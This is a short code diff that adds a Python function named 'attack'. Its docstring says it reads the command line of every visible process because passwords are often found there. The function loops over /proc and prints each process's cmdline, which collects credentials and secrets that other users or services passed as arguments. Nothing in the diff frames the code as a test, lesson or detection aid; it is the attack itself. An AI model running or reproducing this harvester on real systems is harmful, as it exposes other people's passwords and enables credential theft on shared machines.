@@ -1,0 +1,11 @@
+"""Reads the command line of every process that can be seen: passwords are often there."""
+
+import os
+
+
+def attack(told: dict[str, str]) -> None:
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            print(pid, open(f"/proc/{pid}/cmdline").read())
+        except OSError:
+            continue
